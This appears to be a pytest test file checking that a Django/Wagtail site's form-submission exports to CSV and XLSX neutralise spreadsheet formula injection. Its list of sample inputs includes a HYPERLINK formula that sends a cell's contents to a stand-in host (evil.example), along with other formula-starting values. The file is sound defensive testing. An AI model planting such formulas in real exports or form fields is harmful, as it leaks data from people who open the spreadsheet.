"""Exports of form submissions cannot smuggle formulas into a spreadsheet (CSV injection)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from dlhs.csv_safety import neutralise_formula
from people.models import AlumniUpdateFormField, AlumniUpdateFormPage
from tests import factories

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]


@pytest.fixture
def form_page(home):
    about = factories.AboutPageFactory(parent=home)
    alumni = factories.AlumniPageFactory(parent=about)
    page = AlumniUpdateFormPage(
        title="Share your news",
        slug="share-your-news",
        form_fields=[AlumniUpdateFormField(label="Your news", field_type="multiline")],
    )
    alumni.add_child(instance=page)
    page.save_revision().publish()
    for value in [*DANGEROUS, "An ordinary update - with a dash"]:
        FormSubmission.objects.create(page=page, form_data={"your_news": value})
    return page


@pytest.fixture
def export(client, form_page):
    user = get_user_model().objects.create_superuser("boss", "boss@example.edu", "pw")
    client.force_login(user)
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])

    def fetch(spreadsheet_format):
        response = client.get(url, {"export": spreadsheet_format})
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    return fetch


@pytest.mark.django_db
def test_the_csv_export_neutralises_cells_that_start_a_formula(export):
    rows = list(csv.DictReader(io.StringIO(export("csv").decode("utf-8-sig"), newline="")))

    news = [row["Your news"] for row in rows]
    assert sorted(news) == sorted(
        ["'" + value for value in DANGEROUS] + ["An ordinary update - with a dash"]
    )


@pytest.mark.django_db
def test_the_xlsx_export_stores_such_cells_as_text(export):
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("Your news")

    cells = [row[column] for row in sheet.iter_rows(min_row=2)]

    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.value for cell in cells} >= {"+1", "-1", "@SUM(A1:A9)"}


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_start_gets_a_leading_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Arbor", "", " =not at the start", 2019, -1, None])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value
